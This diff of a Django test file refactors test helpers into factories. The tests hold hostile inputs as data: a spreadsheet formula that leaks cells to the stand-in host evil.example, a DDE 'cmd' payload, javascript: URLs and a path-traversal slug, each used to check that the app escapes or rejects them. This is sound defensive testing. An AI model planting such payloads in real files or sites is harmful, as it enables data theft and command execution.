@@ -30,7 +30,7 @@ from countries.history import record_revisions
 from countries.models import BlockedSite, Country, Source
 from countries.opendata.export import ExportError, fixture_files, write_fixture_files
 
-from .conftest import make_country, make_site, make_source
+from .factories import CountryFactory, SiteFactory, SourceFactory
 from .forms import read_form
 from .helpers import fetch, free_port, manage, production_environment, start_gunicorn, wait_until_up
 
@@ -65,8 +65,8 @@ def cache_rows():
 
 
 def test_feeds_never_carry_editor_markup_as_html(client):
-    country = make_country(summary=f"{HOSTILE} is what the summary says.")
-    site = make_site(country, name="Site")
+    country = CountryFactory(summary=f"{HOSTILE} is what the summary says.")
+    site = SiteFactory(country=country, name="Site")
     record_revisions([country], "Added.")
     site.name = HOSTILE
     site.save()
@@ -174,9 +174,9 @@ def test_a_full_cache_table_never_loses_the_content_version(client, kazakhstan, 
 
 def test_csv_cells_never_start_a_formula_and_the_data_stays_exact(client, tmp_path):
     formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
-    country = make_country(summary="@SUM(1+1)")
-    make_site(country, name="+cmd|' /C calc'!A0", notes=formula)
-    make_site(country, name="-2+3", notes="\tTabbed")
+    country = CountryFactory(summary="@SUM(1+1)")
+    SiteFactory(country=country, name="+cmd|' /C calc'!A0", notes=formula)
+    SiteFactory(country=country, name="-2+3", notes="\tTabbed")
     sites = b"".join(client.get("/data/csv/blocked-sites.csv").streaming_content).decode()
     assert f"'{formula}" in sites.replace('""', '"')
     assert "'+cmd|" in sites and "'-2+3" in sites and "'\tTabbed" in sites
@@ -299,17 +299,17 @@ def test_make_run_refuses_the_crafted_fixture(crafted_fixture, settings, django_
 def test_the_database_refuses_script_links_whatever_the_path():
     with pytest.raises(IntegrityError), transaction.atomic():
         Source.objects.create(name="Evil", url="javascript:alert(1)")
-    country = make_country()
+    country = CountryFactory()
     with pytest.raises(IntegrityError), transaction.atomic():
         BlockedSite.objects.create(
             country=country, name="Evil", action="blocked", url="JavaScript:alert(1)"
         )
-    make_source(name="Fine", url="HTTPS://example.org/")
-    make_site(country, name="Bare domain", url="example.org")
+    SourceFactory(name="Fine", url="HTTPS://example.org/")
+    SiteFactory(country=country, name="Bare domain", url="example.org")
 
 
 def test_exports_never_write_outside_their_folder(client, tmp_path):
-    country = make_country()
+    country = CountryFactory()
     Country.objects.filter(pk=country.pk).update(slug="../../outside")  # as raw SQL could
     with pytest.raises(ExportError, match="is not a slug"):
         write_fixture_files(tmp_path / "out", fixture_files())
